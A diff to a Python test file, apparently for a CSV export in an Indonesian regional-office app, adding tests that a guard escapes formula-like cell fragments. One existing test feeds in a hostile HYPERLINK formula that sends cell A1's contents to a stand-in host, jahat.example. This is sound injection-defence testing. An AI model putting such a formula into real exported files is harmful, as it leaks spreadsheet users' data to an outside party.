@@ -42,6 +42,20 @@ def test_no_cell_begins_like_a_formula(start):
     assert guarded(f"{start}1+1") == f"'{start}1+1"
 
 
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("Musim;=1+1;tanam", "Musim;'=1+1;tanam"),
+        ("Musim\t@SUM(A1)", "Musim\t'@SUM(A1)"),
+        ("Musim\n-1", "Musim\n'-1"),
+        ('Musim";"+1', 'Musim";"\'+1'),
+        ("Musim; -1 derajat", "Musim; -1 derajat"),
+    ],
+)
+def test_no_part_of_a_cell_that_a_spreadsheet_may_cut_off_begins_like_a_formula(cell, written):
+    assert guarded(cell) == written
+
+
 def test_a_hostile_headline_reaches_the_file_as_text(auditor):
     hostile = '=HYPERLINK("https://jahat.example/?x="&A1,"Klik, di sini")'
     published(regency_office("73.03"), at=WITHIN_NOVEMBER, headline=hostile)
